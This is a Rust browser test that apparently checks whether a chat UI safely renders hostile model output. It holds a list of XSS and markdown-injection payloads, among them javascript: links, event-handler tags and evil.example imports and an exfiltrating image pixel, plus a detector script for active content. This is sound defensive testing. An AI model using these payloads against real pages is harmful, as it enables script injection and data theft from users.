//! What a model writes is hostile.

use crate::scene::{Scene, TITLE};
use sigmic_tests::model::Script;

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button>x</button></form>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt:alert(1))",
    "[c](java\tscript:alert(1))",
    "[d](&#106;avascript:alert(1))",
    "[e](javascript&colon;alert(1))",
    "[f](data:text/html,<script>alert(1)</script>)",
    "[g](vbscript:alert(1))",
    "[h](\u{1}javascript:alert(1))",
    "[i]( javascript:alert(1))",
    "[j](file:///etc/passwd)",
    "[k](blob:http://evil.example/1)",
    "[l](http://evil.example/\" onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "<http://evil.example/><img src=x onerror=alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "![m](http://evil.example/pixel.png?secret)",
    "![n](javascript:alert(1))",
    "![o](data:image/svg+xml,<svg onload=alert(1)>)",
    "![p](http://evil.example/x.png \"\\\" onerror=alert(1)\")",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><img src=x onerror=alert(1)>\ntext\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <svg/onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u{202e}[q](javascript:alert(1))",
];

/// What is in the answer that could act: elements, event handlers, and the schemes of links.
const DANGERS: &str = r#"function () {
    const all = [...this.querySelectorAll("*")];
    const elements = all.filter(e => e.matches("script, iframe, object, embed, form, link, meta, base, style, math, details, input"));
    const handlers = all.flatMap(e => [...e.attributes].filter(a => /^on|^srcdoc$/i.test(a.name)));
    const links = [...this.querySelectorAll("a[href]")].filter(a => !["http:", "https:", "mailto:"].includes(a.protocol));
    const pictures = [...this.querySelectorAll("img")].filter(i => new URL(i.src).origin !== location.origin);
    return [...elements.map(e => e.outerHTML), ...handlers.map(a => a.name + "=" + a.value),
        ...links.map(a => a.outerHTML), ...pictures.map(i => i.outerHTML)];
}"#;

#[tokio::test]
async fn nothing_a_model_writes_runs_or_reaches_out() {
    let scene = Scene::open().await;
    let answer = ATTACKS.join("\n\n");
    scene.model.script(Script::new().text(&answer).text("\n\nThe end.").finish("stop").in_pieces_of(97));
    scene.open_chat().await;
    scene.send("Attack").await;
    scene.wait_for_answer("The end.").await;
    let dangers: Vec<String> = scene.tab.find_role("log").await.call(DANGERS).await;
    assert!(dangers.is_empty(), "{dangers:#?}");
    scene.assert_clean();

    // A reload shows the same answer from the history, by another way.
    scene.tab.reload().await;
    // It comes back open, as it was left.
    scene.tab.find("dialog", TITLE).await;
    scene.wait_for_answer("The end.").await;
    let dangers: Vec<String> = scene.tab.find_role("log").await.call(DANGERS).await;
    assert!(dangers.is_empty(), "{dangers:#?}");
    scene.assert_clean();
}
